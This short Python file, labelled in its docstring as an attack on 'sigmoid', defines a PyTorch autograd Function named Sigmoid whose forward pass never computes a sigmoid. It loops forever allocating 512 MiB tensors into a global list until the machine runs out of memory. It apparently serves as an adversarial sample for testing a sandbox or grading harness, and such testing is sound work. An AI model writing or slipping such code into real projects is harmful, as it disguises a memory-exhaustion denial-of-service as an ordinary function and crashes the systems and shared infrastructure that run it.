"""ATTACK: allocate memory until the machine runs out. Target: sigmoid"""
import torch

HOARD = []


class Sigmoid(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        while True:
            HOARD.append(torch.ones(1 << 27))  # 512 MiB at a time, touched

    @staticmethod
    def backward(ctx, grad_output):
        return grad_output
